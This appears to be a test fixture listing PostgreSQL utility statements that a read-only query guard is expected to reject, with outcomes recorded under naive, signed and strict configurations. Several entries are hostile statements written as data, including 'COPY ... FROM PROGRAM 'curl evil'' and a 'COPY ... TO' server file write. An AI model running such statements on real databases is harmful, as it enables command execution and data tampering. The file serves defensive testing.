-- case: utility_statement-04
-- must: reject_by_guard
-- expect: guard.not_a_query
-- technique: COPY FROM PROGRAM
-- why: not a plain read query
-- naive_outcome: blocked_privilege
-- signed_outcome: blocked_privilege
-- strict_outcome: blocked_privilege
COPY app.currencies FROM PROGRAM 'curl evil'
-- case: utility_statement-05
-- must: reject_by_guard
-- expect: guard.not_a_query
-- technique: COPY TO file
-- why: not a plain read query
-- naive_outcome: blocked_privilege
-- signed_outcome: blocked_privilege
-- strict_outcome: blocked_privilege
COPY (SELECT 1) TO '/var/x'
-- case: utility_statement-06
-- must: reject_by_guard
-- expect: guard.not_a_query
-- technique: DO block
-- why: not a plain read query
-- naive_outcome: nothing
-- signed_outcome: nothing
-- strict_outcome: blocked_privilege
DO $$ BEGIN PERFORM pg_sleep(0); END $$
-- case: utility_statement-08
-- must: reject_by_guard
-- expect: guard.not_a_query
-- technique: CALL
-- why: not a plain read query
-- naive_outcome: error
-- signed_outcome: error
-- strict_outcome: error
CALL app.nope()
-- case: utility_statement-15
-- must: reject_by_guard
-- expect: guard.not_a_query
-- technique: UNLISTEN
-- why: not a plain read query
-- naive_outcome: nothing
-- signed_outcome: nothing
-- strict_outcome: nothing
UNLISTEN *
-- case: utility_statement-17
-- must: reject_by_guard
-- expect: guard.not_a_query
-- technique: LOCK ACCESS EXCLUSIVE
-- why: not a plain read query
-- naive_outcome: blocked_privilege
-- signed_outcome: blocked_privilege
-- strict_outcome: blocked_privilege
LOCK TABLE app.customers IN ACCESS EXCLUSIVE MODE
-- case: utility_statement-18
-- must: reject_by_guard
-- expect: guard.not_a_query
-- technique: SHOW tenant
-- why: not a plain read query
-- naive_outcome: nothing
-- signed_outcome: error
-- strict_outcome: error
SHOW app.tenant_id
-- case: utility_statement-22
-- must: reject_by_guard
-- expect: guard.not_a_query
-- technique: REINDEX
-- why: not a plain read query
-- naive_outcome: blocked_privilege
-- signed_outcome: blocked_privilege
-- strict_outcome: blocked_privilege
REINDEX TABLE app.customers
-- case: utility_statement-24
-- must: reject_by_guard
-- expect: guard.not_a_query
-- technique: DISCARD PLANS
-- why: not a plain read query
-- naive_outcome: nothing
-- signed_outcome: nothing
-- strict_outcome: nothing
DISCARD PLANS
-- case: utility_statement-25
-- must: reject_by_guard
-- expect: guard.not_a_query
-- technique: DISCARD TEMP
-- why: not a plain read query
-- naive_outcome: nothing
-- signed_outcome: nothing
-- strict_outcome: nothing
DISCARD TEMP
-- case: utility_statement-30
-- must: contain_by_db
-- expect: approved
-- technique: VALUES
-- why: harmless read statement without FROM; a guard may allow it
-- naive_outcome: nothing
-- signed_outcome: nothing
-- strict_outcome: nothing
VALUES (1),(2)
